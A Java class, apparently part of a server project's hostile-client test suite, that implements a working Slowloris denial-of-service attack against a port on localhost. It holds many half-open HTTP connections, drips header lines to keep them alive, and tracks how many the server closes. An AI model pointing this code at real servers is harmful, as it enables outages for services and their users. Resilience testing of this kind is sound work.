package dev.loomgate.hostile;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.locks.LockSupport;

/** Many connections of one thread, each of which begins a request, sends a header line now and then, and begins anew when cut off. */
final class Slowloris implements AutoCloseable {
    private static final byte[] BEGIN = "GET / HTTP/1.1\r\nHost: h\r\n".getBytes(StandardCharsets.ISO_8859_1);
    private static final byte[] LINE = "X: y\r\n".getBytes(StandardCharsets.ISO_8859_1);
    /** Time for all connections to send a line. */
    private static final long ROUND_NANOS = 3_000_000_000L;
    private static final int BATCH = 50;

    private final String from;
    private final InetSocketAddress target;
    private final SocketChannel[] connections;
    private final Thread thread;
    private final ByteBuffer answer = ByteBuffer.allocateDirect(4096);
    private volatile long attempts;
    private volatile long linesSent;
    private volatile long closed;
    private volatile boolean done;

    private Slowloris(String from, int port, int count) {
        this.from = from;
        this.target = new InetSocketAddress("127.0.0.1", port);
        this.connections = new SocketChannel[count];
        this.thread = Thread.ofPlatform().name("slowloris").daemon().unstarted(this::run);
    }

    static Slowloris start(String from, int port, int count) {
        var attack = new Slowloris(from, port, count);
        attack.thread.start();
        return attack;
    }

    /** Connections that were opened, or tried to. */
    long attempts() {
        return attempts;
    }

    long linesSent() {
        return linesSent;
    }

    /** How many of them the server has ended. */
    long closed() {
        return closed;
    }

    private void run() {
        long pause = ROUND_NANOS / Math.max(1, connections.length / BATCH);
        long next = System.nanoTime();
        while (!done) {
            for (int i = 0; i < connections.length && !done; i++) {
                goOn(i);
                if (i % BATCH == 0) {
                    next = Math.max(next + pause, System.nanoTime() - ROUND_NANOS);
                    LockSupport.parkNanos(next - System.nanoTime());
                }
            }
        }
    }

    private void goOn(int i) {
        SocketChannel channel = connections[i];
        try {
            if (channel == null) {
                attempts++;
                channel = SocketChannel.open();
                connections[i] = channel;
                channel.bind(new InetSocketAddress(from, 0));
                channel.connect(target);
                channel.configureBlocking(false);
                channel.write(ByteBuffer.wrap(BEGIN));
            } else if (channel.read(answer.clear()) != 0) {
                throw new IOException("an answer, or the end");
            } else if (channel.write(ByteBuffer.wrap(LINE)) > 0) {
                linesSent++;
            }
        } catch (IOException cutOff) {
            closed++;
            close(channel);
            connections[i] = null;
        }
    }

    private static void close(SocketChannel channel) {
        try {
            if (channel != null) {
                channel.close();
            }
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    @Override
    public void close() throws InterruptedException {
        done = true;
        thread.join();
        for (SocketChannel channel : connections) {
            close(channel);
        }
    }
}
